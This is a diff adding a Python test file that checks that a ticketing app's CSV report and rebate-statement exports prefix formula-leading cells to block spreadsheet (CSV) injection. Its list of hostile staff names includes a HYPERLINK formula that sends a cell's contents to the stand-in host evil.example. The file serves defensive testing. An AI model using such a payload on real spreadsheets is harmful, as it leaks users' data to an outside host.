@@ -1,0 +1,54 @@
+"""CSV exports hold no cell a spreadsheet would run (OWASP CSV injection) and say their charset once."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from core.csv_export import safe_cell
+from tests.core.reports.test_service_quality import _ticket, this_month
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1"]
+
+
+def cells(response) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
+
+
+def test_only_text_leading_a_formula_is_prefixed():
+    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "普通", "a=b", -250, 3)] == [
+        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "普通", "a=b", -250, 3]
+
+
+async def test_the_report_csv_escapes_a_staff_members_formula_name(make_tenant):
+    tenant = await make_tenant()
+    customer = await tenant.customer()
+    for name in HOSTILE_NAMES:
+        agent = await tenant.add_user("agent", name=name)
+        await _ticket(agent, customer["id"])
+    response = await tenant.get(f"/api/v1/reports/service-quality.csv?month={this_month()}")
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    found = cells(response)
+    for name in HOSTILE_NAMES:
+        assert "'" + name in found and name not in found, name
+
+
+async def test_the_rebate_csv_escapes_an_agents_formula_name(client, make_tenant, page_login):
+    tenant = await make_tenant()
+    for name in HOSTILE_NAMES:
+        agent = (await tenant.post("/api/v1/rebates/agents", json={"name": name, "rebate_percent": "3.5"})).json()
+        sale = await tenant.post(f"/api/v1/rebates/agents/{agent['id']}/transactions",
+                                 json={"amount_fen": 1000, "occurred_on": "2025-03-10"})
+        assert sale.status_code == 201, sale.text
+    await page_login(tenant.slug, tenant.admin_email)
+    for url in (f"/t/{tenant.slug}/rebates/statement.csv?month=2025-03",
+                f"/t/{tenant.slug}/reports/service-quality.csv?month=2025-03"):
+        response = await client.get(url)
+        assert response.status_code == 200, response.text
+        assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    response = await client.get(f"/t/{tenant.slug}/rebates/statement.csv?month=2025-03")
+    found = cells(response)
+    for name in HOSTILE_NAMES:
+        assert "'" + name in found and name not in found, name
+    assert "1000" in found and "-" not in "".join(c[:1] for c in found if c and c[0] != "'")
